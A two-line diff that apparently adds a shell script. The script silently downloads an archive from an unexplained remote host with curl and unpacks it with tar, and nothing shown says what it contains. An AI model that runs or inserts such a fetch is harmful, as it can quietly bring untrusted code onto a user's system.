@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s http://files.lazaret-invented.xyz/a | tar x
